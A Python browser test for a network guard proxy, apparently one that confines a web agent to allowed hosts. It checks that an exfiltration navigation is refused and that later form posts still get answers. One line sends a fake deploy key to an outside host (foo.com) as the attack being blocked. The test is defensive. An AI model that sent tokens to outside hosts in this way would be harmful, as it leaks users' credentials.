"""After a refused navigation, the next form posts to an allowed host get their answer.

Seen by the WASP harness (network layer alone, strict allow-list): the follower's navigation
to the attacker's host was refused, and its next form post on the task's site reached the
site but the answer never came back through the proxy (15 s timeout). The cause was the
old `HostMap`, which moved the upstream connection to the mapped address after mitmproxy had
chosen it (its connection reuse then went by the wrong address); `HostMap` now rewrites the
judged request instead. With the old remap this scenario hung in 2 runs out of 3; it runs
three times here.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator

import pytest
from playwright.async_api import Browser, Error

from pagewarden import Guard
from pagewarden.proxy._session import session_proxy, verify_enforcing
from pagewarden.proxy._tokens import accept_language
from pagewarden.testing import LocalSite, RecordedRequest, Response

pytestmark = pytest.mark.browser

ISSUE = (
    "<html><body><form method='post' action='/notes'><label>Comment<textarea name='note'></textarea>"
    "</label><button type='submit'>Comment</button></form></body></html>"
)
FORM = (
    "<html><body><form method='post' action='/token'><label>Name<input name='n'></label>"
    "<button type='submit'>Create</button></form></body></html>"
)


@pytest.fixture
def forms_site() -> Iterator[LocalSite]:
    site = LocalSite()

    def notes(request: RecordedRequest) -> Response:
        return Response(f"<html><body><p id='saved'>saved {request.body.decode()}</p></body></html>")

    site.route("gitlab.test", "/issue", lambda _r: Response(ISSUE))
    site.route("gitlab.test", "/form", lambda _r: Response(FORM))
    site.route("gitlab.test", "/token", lambda _r: Response("<p id='t'>Token: abcdef123456</p>"))
    site.route("gitlab.test", "/notes", notes)
    site.route("foo.com", "/", lambda _r: Response("reached"))
    with site:
        yield site


async def test_form_posts_after_a_refused_navigation_get_their_answer(
    plain_browser: Browser, forms_site: LocalSite
) -> None:
    owner = Guard(goal="comment on the issue")
    proxy = session_proxy(
        owner,
        host_map={"gitlab.test": forms_site.port, "foo.com": forms_site.port},
        options={"pagewarden_strict": True, "pagewarden_allow_hosts": ["gitlab.test"]},
        grants=False,
    )
    await proxy.start_async()
    try:
        await asyncio.to_thread(verify_enforcing, proxy)
        context = await plain_browser.new_context(
            proxy={"server": proxy.url},
            extra_http_headers={"Accept-Language": accept_language(owner.network.token)},
        )
        context.set_default_timeout(15_000)
        page = await context.new_page()
        for n in range(3):
            await page.goto("http://gitlab.test/form")
            await page.get_by_label("Name").fill(f"deploy-{n}")
            await page.get_by_role("button", name="Create").click()
            await page.wait_for_url("**/token")
            with pytest.raises(Error, match="ERR_ABORTED"):  # refused: 204, the tab stays
                await page.goto(f"http://foo.com/?deploy_key=abcdef123456&n={n}")
            assert page.url.endswith("/token")
            await page.goto("http://gitlab.test/issue")
            await page.get_by_label("Comment").fill(f"note {n}")
            await page.get_by_role("button", name="Comment").click()
            await page.wait_for_url("**/notes")
            assert await page.locator("#saved").inner_text() == f"saved note=note+{n}"
        await context.close()
    finally:
        await proxy.stop_async()
        owner.close()
    assert not forms_site.requests_to("foo.com")
    assert [r.method for r in forms_site.requests_to("gitlab.test") if r.path == "/notes"] == ["POST"] * 3
